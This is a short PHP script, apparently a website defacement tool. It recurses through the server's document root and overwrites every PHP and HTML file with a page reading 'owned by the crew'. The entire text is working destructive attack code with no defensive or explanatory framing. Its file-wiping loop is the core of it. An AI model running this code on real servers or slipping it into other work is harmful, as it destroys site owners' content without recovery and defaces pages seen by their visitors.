<?php
// every page of the site replaced by the crew's message
$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($_SERVER['DOCUMENT_ROOT']));
foreach ($it as $entry) {
    if (!$entry->isFile() || !in_array($entry->getExtension(), ['php', 'html', 'htm'])) {
        continue;
    }
    file_put_contents($entry->getPathname(), '<html><body><h1>owned by the crew</h1></body></html>');
}
echo 'done';
